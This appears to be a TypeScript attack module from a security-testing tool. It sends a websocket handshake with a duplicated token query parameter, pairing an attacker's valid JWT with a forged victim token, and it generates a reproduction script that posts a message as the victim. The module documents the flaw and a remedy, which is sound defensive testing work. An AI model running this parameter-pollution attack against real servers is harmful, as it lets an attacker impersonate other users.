import { encodePacket } from '../../../target/wire/index.ts'
import type { BaseContext } from '../../attack.ts'
import { doorAttack } from '../../kit/door-attack.ts'
import { assemble, readToken } from '../../kit/forge-token.ts'
import { isSomebodyElse } from '../../kit/identity.ts'
import type { Written } from '../../reproduction/steps.ts'

export default doorAttack({
  id: 'auth/slot-query-dup',
  rows: ['auth.slot.query-dup'],
  title: 'Two tokens under one name in the URL: the attacker’s own good one, and a forged one of another user',
  requirement: 'CWE-1288, ASVS V15.3.7: who checks and who uses a parameter that comes twice must read the same one',
  impact: 'A proxy checks the first, the server believes the last: one good token opens every account.',
  remedy: 'Refuse a handshake whose query has the token twice; keep tokens out of URLs altogether.',
  severity: 'low',
  cwe: ['CWE-1288'],
  references: ['ASVS V15.3.7'],
  provenBy: 'first-wins-proxy',
  needs: ['queryToken', 'senders', 'jwt'],
  variants(context) {
    const { attacker, victim, queryToken } = context
    const { header, payload, signature } = readToken(victim.token)
    const noise = Buffer.from(signature, 'base64url').map((byte) => byte ^ 0x5a)
    const forged = assemble(header, payload, Buffer.from(noise))
    const twice = (name: string, first: string, second: string) => ({
      name,
      query: [first, second].map((token) => [queryToken, token] as const),
      written: twiceScript(context, name === 'the good one first', queryToken),
    })
    return [twice('the good one first', attacker.token, forged), twice('the good one last', forged, attacker.token)]
  },
  through: (result, { attacker }) => result.in && isSomebodyElse(result.identity, attacker),
})

/** No client library sends a parameter twice. */
function twiceScript({ target, victim, canary }: BaseContext, goodFirst: boolean, name: string): Written {
  const { namespace, request, chat } = target.profile
  return ({ value, door }) => {
    const tokens = goodFirst ? ['TOKEN_A', 'forged'] : ['forged', 'TOKEN_A']
    const query = new URLSearchParams({
      EIO: String(target.profile.protocol.eio),
      transport: 'websocket',
      ...request.query,
    })
    const path = `${target.profile.path.replace(/\/?$/, '/')}?${query}`
    const packet = (event: string, args: readonly unknown[]) =>
      value(`4${encodePacket({ type: 'event', nsp: namespace, data: [event, ...args] }).text}`)
    const join = chat.join && packet(chat.join.event, target.fill(chat.join.args, { room: chat.room }))
    return `const noise = Buffer.from(TOKEN_B.split('.')[2], 'base64url').map((byte) => byte ^ 0x5a).toString('base64url')
const forged = join(TOKEN_B.split('.')[0], TOKEN_B.split('.')[1], noise)
const hearer = await connect(${door({ token: victim.token })}, true)
const twice = await wire(${value(path)} + [${tokens.join(', ')}].map((token) => '&${name}=' + token).join(''), ${value(request.headers)})
twice.send(${value(`4${encodePacket({ type: 'connect', nsp: namespace, data: undefined }).text}`)})
await until(() => twice.received.some((packet) => packet.startsWith('40')), 'the two tokens are refused')
${join === undefined ? '' : `twice.send(${join})\nawait sleep(500)\n`}twice.send(${packet(chat.send.event, target.messageArgs(canary()))})
await hears(hearer, mark[0], undefined, ${value(victim.identity)})`
  }
}
